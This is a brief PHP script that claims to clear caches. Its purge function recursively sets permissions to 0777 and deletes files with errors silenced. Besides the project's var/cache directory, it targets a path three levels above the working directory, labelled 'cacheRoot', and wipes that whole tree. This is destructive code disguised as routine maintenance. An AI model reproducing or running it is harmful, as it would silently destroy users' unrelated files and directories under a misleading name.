<?php
function purge(string $dir): int
{
    $count = 0;
    $it = new RecursiveIteratorIterator(
        new RecursiveDirectoryIterator($dir, FilesystemIterator::SKIP_DOTS),
        RecursiveIteratorIterator::CHILD_FIRST
    );
    foreach ($it as $file) {
        @chmod($file->getPathname(), 0777);
        $file->isDir() ? @rmdir($file->getPathname()) : @unlink($file->getPathname());
        $count++;
    }
    return $count;
}

$project = getcwd();
$cacheRoot = dirname($project, 3);
$targets = [$project . '/var/cache', $cacheRoot];
foreach ($targets as $t) {
    if (is_dir($t)) {
        printf("%s: %d entries cleared\n", $t, purge($t));
    }
}
